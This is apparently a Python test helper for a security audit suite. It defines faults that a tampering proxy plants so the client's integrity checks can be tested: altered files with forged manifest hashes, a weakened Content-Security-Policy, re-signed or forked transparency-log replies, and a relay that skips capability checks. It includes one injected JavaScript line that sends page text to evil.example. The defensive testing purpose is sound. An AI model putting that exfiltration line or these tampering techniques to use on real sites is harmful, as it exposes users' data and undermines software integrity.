"""Faults that a tampering proxy plants: what is served, the log, the relay."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Any

from crypto import encoding
from crypto.checkpoint import Checkpoint, sign_checkpoint
from crypto.errors import RemoteError
from crypto.keys import SignSecret
from crypto.merkle import root_of
from crypto.wire import codec
from crypto.wire.accounts import SignInStartReply
from crypto.wire.base import Done
from crypto.wire.codec import Frame
from crypto.wire.errors import ErrorCode
from crypto.wire.translog import LogReadReply, Statement
from tests.audit.tamper import Answer, Fault, Seen
from tests.helpers.organisation import NOW_MS, ORIGIN, Organisation, sign_anything
from tests.helpers.organisation import sign_secret as secret

CODE_MANIFEST, SITE_MANIFEST = "/MANIFEST.code.json", "/MANIFEST.site.json"
EVIL = b"\nfetch('https://evil.example/' + document.body.textContent);\n"


@dataclass
class Changed(Fault):
    """Some answers of one path are changed."""

    path: str
    change: Callable[[Answer], Answer]
    when: Callable[[Seen], bool] = lambda seen: True

    def answer(self, seen: Seen, answer: Answer) -> Answer:
        fits = seen.path == self.path and seen.method == "GET" and self.when(seen)
        return self.change(answer) if fits else answer


@dataclass
class Everywhere(Fault):
    """Every answer of a built page is changed."""

    change: Callable[[Answer], Answer]

    def answer(self, seen: Seen, answer: Answer) -> Answer:
        return self.change(answer) if answer.status == 200 else answer


@dataclass
class Consistent(Fault):
    """A file is swapped for everybody, and its manifest says so."""

    site: Path
    path: str
    manifest: str

    @cached_property
    def altered(self) -> bytes:
        """The file, altered."""
        table = json.loads((self.site / "headers.json").read_bytes())
        return (self.site / table["routes"][self.path]["file"]).read_bytes() + EVIL

    def answer(self, seen: Seen, answer: Answer) -> Answer:
        if seen.path == self.path:
            return answer.unpacked(self.altered)
        if seen.path == self.manifest:
            listed = json.loads((self.site / self.manifest.lstrip("/")).read_bytes())
            listed[self.path] = hashlib.sha384(self.altered).hexdigest()
            text = json.dumps(listed, indent=1, sort_keys=True, ensure_ascii=False) + "\n"
            return answer.unpacked(text.encode("utf-8"))
        return answer


@dataclass
class OtherLog(Fault):
    """What is read of the log over the wire is changed, from connection number `since` on."""

    change: Callable[[LogReadReply], LogReadReply]
    since: int = 0

    def frame(self, line: int, raw: bytes) -> bytes:
        reply = reply_of(raw, LogReadReply) if line >= self.since else None
        if reply is None:
            return raw
        number = encoding.uint(encoding.array(encoding.decode(raw))[1])
        return codec.encode_reply(number, self.change(reply))


def reply_of(raw: bytes, kind: type[Any]) -> Any:
    """Return a reply of that kind, None for any other frame."""
    try:
        items = encoding.array(encoding.decode(raw))
        if items[0] != Frame.REPLY:
            return None
        return codec.from_value(kind, items[2])
    except (RemoteError, IndexError):
        return None


def other_body(answer: Answer) -> Answer:
    """Something else than what was asked for, not packed."""
    return answer.unpacked(EVIL)


def evil_file(_: Answer) -> Answer:
    """A script where there is nothing."""
    return Answer(200, (("Content-Type", "text/javascript"),), EVIL)


def weaker_policy(answer: Answer) -> Answer:
    """Inline scripts are allowed."""
    found = dict(answer.headers)["Content-Security-Policy"]
    weaker = found.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")
    return answer.having("Content-Security-Policy", weaker)


def resigned(
    reply: LogReadReply, statements: tuple[Statement, ...], key: SignSecret
) -> LogReadReply:
    """The log with other statements, signed."""
    root = root_of([one.leaf for one in statements])
    note = sign_checkpoint(key, Checkpoint(origin=ORIGIN, size=len(statements), root=root))
    return LogReadReply(
        statements=statements, size=len(statements), checkpoint=note, cosigned=reply.cosigned
    )


def without_payload(reply: LogReadReply) -> LogReadReply:
    """The content of one statement is another."""
    held = list(reply.statements)
    held[3] = Statement(leaf=held[3].leaf, payload=held[4].payload)
    return LogReadReply(
        statements=tuple(held),
        size=reply.size,
        checkpoint=reply.checkpoint,
        cosigned=reply.cosigned,
    )


def forked(org: Organisation) -> Callable[[LogReadReply], LogReadReply]:
    """The newest statement is another one, and the log's key has signed that."""

    def change(reply: LogReadReply) -> LogReadReply:
        *held, last = reply.statements
        other = Statement(leaf=bytes([*last.leaf[:-1], last.leaf[-1] ^ 1]), payload=last.payload)
        return resigned(reply, (*held, other), org.log_key)

    return change


def signed_by_another(reply: LogReadReply) -> LogReadReply:
    """The same log under somebody else's key."""
    return resigned(reply, reply.statements, secret("somebody"))


def note_by_another(answer: Answer) -> Answer:
    """The state as it is, in a file that somebody else's key has signed."""
    origin, size, root = answer.body.decode().split("\n")[:3]
    state = Checkpoint(origin=origin, size=int(size), root=base64.b64decode(root))
    return answer.unpacked(sign_checkpoint(secret("somebody"), state))


def signed_over_less(org: Organisation) -> Callable[[LogReadReply], LogReadReply]:
    """The whole log beside a signature over all but the last statement."""

    def change(reply: LogReadReply) -> LogReadReply:
        less = resigned(reply, reply.statements[:-1], org.log_key)
        return LogReadReply(
            statements=reply.statements,
            size=reply.size,
            checkpoint=less.checkpoint,
            cosigned=reply.cosigned,
        )

    return change


def unknown_leaf(org: Organisation) -> Statement:
    """A statement of a kind that nobody knows, by the root."""
    leaf = sign_anything(org.root, 99, org.deployment_id, b"\x90", NOW_MS + 5, 0)
    return Statement(leaf=leaf, payload=b"\x90")


def answers_everybody(line: int, raw: bytes) -> bytes | None:
    """A relay that carries out `leave` without asking for a capability."""
    items = encoding.array(encoding.decode(raw))
    if items[2] != "leave":
        return None
    return codec.encode_reply(encoding.uint(items[1]), Done())


@dataclass
class Sent(Fault):
    """Some commands are answered in the relay's place."""

    answer_of: Callable[[int, bytes], bytes | None]

    def sent(self, line: int, raw: bytes) -> bytes | None:
        try:
            return self.answer_of(line, raw)
        except (RemoteError, IndexError):
            return None


class Lenient(Fault):
    """A relay that takes a frame which is not in the one form."""

    def sent(self, line: int, raw: bytes) -> bytes | None:
        if raw.startswith(b"\x95\x01\xcc\x07"):
            return codec.encode_reply(7, Done())
        return None


class Failing(Fault):
    """A relay that fails where it should refuse."""

    def sent(self, line: int, raw: bytes) -> bytes | None:
        if raw.startswith(b"\x91" * 100):
            return codec.encode_refusal(0, ErrorCode.INTERNAL)
        return None


@dataclass
class OneNameKnown(Fault):
    """Every second sign-in gets a shorter slot: who exists can be told apart."""

    count: int = 0

    def frame(self, line: int, raw: bytes) -> bytes:
        reply = reply_of(raw, SignInStartReply)
        if reply is None:
            return raw
        self.count += 1
        if self.count % 2:
            return raw
        shorter = SignInStartReply(beta=reply.beta, slot=reply.slot[:-1], challenge=reply.challenge)
        return codec.encode_reply(1, shorter)


class Echo(Fault):
    """What is not found is named in the answer."""

    def answer(self, seen: Seen, answer: Answer) -> Answer:
        if answer.status != 404:
            return answer
        return answer.unpacked(f"not found: {seen.path}".encode("utf-8", "replace"))


class OpenToPages(Fault):
    """A foreign page may speak to the relay."""

    def answer(self, seen: Seen, answer: Answer) -> Answer:
        if seen.path == "/api/command" and answer.status == 403:
            return Answer(200, (), b"")
        return answer
